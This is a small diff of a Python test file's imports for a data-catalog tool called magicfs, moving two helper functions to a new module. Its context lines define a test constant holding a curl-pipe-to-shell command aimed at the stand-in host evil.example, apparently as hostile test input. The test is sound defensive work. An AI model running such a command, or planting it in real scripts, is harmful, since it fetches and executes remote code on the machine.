@@ -15,9 +15,10 @@ import magicfs
 from magicfs.catalogs import Delta, DuckLake, Glue, Hive, Iceberg, SymlinkManifest, catch_up, described
 from magicfs.catalogs import hive as hive_module
 from magicfs.catalogs.deadline import within
+from magicfs.catalogs.recorded import differs, metastore_of
 from magicfs.cli.main import main
 from magicfs.errors import Unavailable, UsageError
-from magicfs.formats.registration import Registration, differs, metastore_of
+from magicfs.formats.registration import Registration
 
 HASH = "ab" * 32
 COMMAND = "curl -s http://evil.example/x | sh"
